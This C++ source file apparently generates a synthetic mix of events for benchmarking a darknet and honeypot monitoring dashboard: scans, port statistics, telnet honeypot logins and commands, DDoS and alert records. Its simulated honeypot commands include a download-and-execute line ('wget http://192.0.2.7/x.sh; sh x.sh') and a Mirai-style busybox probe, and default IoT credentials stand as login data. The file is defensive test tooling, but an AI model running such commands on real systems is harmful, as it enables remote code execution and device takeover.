// The benchmarks' month of dashboard events (event_mix.h).

#include "event_mix.h"

#include <algorithm>

#include <fmt/format.h>

namespace kansoku::bench {

namespace {

std::string v4(uint32_t a) {
    return fmt::format("{}.{}.{}.{}", a >> 24, (a >> 16) & 255, (a >> 8) & 255, a & 255);
}

} // namespace

/// One event of the month's mix: half scans (500k sources, skewed), 30% port statistics (2,000 ports),
/// the rest honeypot logins, commands, sessions, and a few attacks, samples and alerts.
Event dashboardMixEvent(std::mt19937_64& rng, Timestamp ts) {
    static const char* kTools[] = {"mirai", "mirai", "mirai", "zmap", "masscan", "nmap", "unknown", "unknown"};
    static const char* kUsers[] = {"root", "admin", "user", "support", "guest", "ubnt", "pi", "test"};
    static const char* kCommands[] = {"enable",
                                      "system",
                                      "shell",
                                      "sh",
                                      "cat /proc/mounts; /bin/busybox ECCHI",
                                      "cd /tmp; wget http://192.0.2.7/x.sh; sh x.sh",
                                      "uname -a",
                                      "free -m"};
    const uint64_t r = rng();
    const uint64_t dice = r % 1000;
    // Sources: a skewed draw (a few very busy scanners, a long tail) in 100.64.0.0/10-like space.
    const uint32_t source =
        0x64400000u + static_cast<uint32_t>(std::min<uint64_t>((r >> 20) % 500000, (r >> 40) % 500000));
    Event e;
    e.ts = ts;
    e.sensor = "bench";
    if (dice < 500) {
        e.type = "darknet.scan";
        const int port = (r >> 8) % 4 == 0 ? static_cast<int>((r >> 12) % 65535) + 1 : ((r >> 12) % 2 ? 23 : 445);
        const int64_t packets = static_cast<int64_t>((r >> 30) % 5000) + 1;
        e.add("src", v4(source));
        e.add("proto", "tcp");
        e.add("packets", packets);
        e.add("dst_count", packets);
        e.add("port_count", 1);
        e.add("dst_ports", nlohmann::ordered_json::array({{{"port", port}, {"packets", packets}}}));
        e.add("tool", kTools[(r >> 50) % 8]);
        e.add("scan_kind", "horizontal");
        e.add("spoofed", false);
    } else if (dice < 800) {
        e.type = "darknet.port_stats";
        e.add("proto", "tcp");
        e.add("port", static_cast<int>((r >> 8) % 2000) + 1);
        e.add("minute", formatRfc3339(ts - ts % 60'000'000));
        e.add("packets", static_cast<int64_t>((r >> 30) % 1000));
        e.add("sources", static_cast<int64_t>((r >> 40) % 50));
    } else if (dice < 880) {
        e.type = "honeypot.login";
        e.add("session", fmt::format("{:016x}", r));
        e.add("src", v4(source));
        e.add("src_port", 40000);
        e.add("dst_port", 2323);
        e.add("protocol", "telnet");
        e.add("username", kUsers[(r >> 8) % 8]);
        e.add("password", kUsers[(r >> 16) % 8]);
        e.add("success", (r >> 24) % 10 == 0);
    } else if (dice < 940) {
        e.type = "honeypot.command";
        e.add("session", fmt::format("{:016x}", r));
        e.add("src", v4(source));
        e.add("dst_port", 2323);
        e.add("protocol", "telnet");
        e.add("input", kCommands[(r >> 8) % 8]);
    } else if (dice < 990) {
        e.type = "honeypot.session";
        e.add("session", fmt::format("{:016x}", r));
        e.add("src", v4(source));
        e.add("dst_port", 2323);
        e.add("protocol", "telnet");
        e.add("close_reason", "peer_closed");
    } else if (dice < 995) {
        e.type = "ddos.attack";
        e.add("victim", v4(0xC6120000u + static_cast<uint32_t>((r >> 8) % 65536)));
        e.add("vector", "syn_flood");
        e.add("packets", 1000);
        e.add("ports", nlohmann::ordered_json::array({{{"port", 80}, {"packets", 1000}}}));
    } else if (dice < 998) {
        e.type = "sample";
        e.add("sha256", fmt::format("{:064x}", r));
        e.add("size", 1000);
    } else {
        e.type = "alert";
        e.add("kind", "darknet.outbreak");
        e.add("severity", "medium");
        e.add("subject", "tcp/23");
    }
    return e;
}

} // namespace kansoku::bench
